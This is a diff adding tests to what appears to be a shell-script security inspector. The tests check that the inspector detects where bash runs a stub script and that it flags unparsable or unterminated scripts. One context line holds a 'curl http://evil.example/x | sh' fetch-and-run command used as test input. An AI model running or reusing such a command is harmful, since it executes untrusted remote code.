@@ -193,6 +193,33 @@ diff - told <<'END' || fail "commands of a shell script: $(cat out)"
 [7,"HOME=$ HOME=s z"," d d/d",". q/ r",true]
 END
 
+# Where words, here-documents and substitutions end, as bash has it: it runs ./evil in each of these, which is told.
+mkdir words
+printf '#!/bin/sh\n: >"%s/words/ran"\n' "$T" >words/evil
+chmod +x words/evil
+python3 - "$SRC" "$T/words" >out 2>&1 <<'END' || fail "words of shell scripts: $(cat out)"
+import json, os, subprocess, sys
+sys.dont_write_bytecode = True
+sys.path.insert(0, sys.argv[1] + "/cli/inspect/parsers")
+from findings import Findings
+from shell import Commands, Looker
+failed = 0
+for line in open(sys.argv[1] + "/tests/cases/inspect-words.txt"):
+    text = line.rstrip("\n").replace("\\\\", "\0").replace("\\n", "\n").replace("\0", "\\") + "\n"
+    commands, findings = Commands(), Findings()
+    Looker(findings, None, commands).look_at(text)
+    subprocess.run(["bash", "-c", text], cwd=sys.argv[2], capture_output=True)
+    runs = os.path.exists("words/ran") and not os.unlink("words/ran")
+    tells = any("./evil" in json.loads(told)["words"] for _, told in commands.lines)
+    if not runs or not tells or findings.found:
+        print(line.strip(), "runs" if runs else "runs not", "told" if tells else "not told", *findings.found)
+        failed = 1
+sys.exit(failed)
+END
+# shellcheck disable=SC2016
+printf 'cat <<E\n./evil\n: "$(id)"\n' >no-end.sh
+finds no-end.sh 1 syntax 'a here-document has no end line'
+
 # What is too much for a parser does not pass for harmless.
 python3 -c 'print("echo\n" * 100001 + "curl http://evil.example/x | sh")' >long.sh
 finds long.sh '' unparsable 'could not be parsed: the parser ended with status failed (1)'
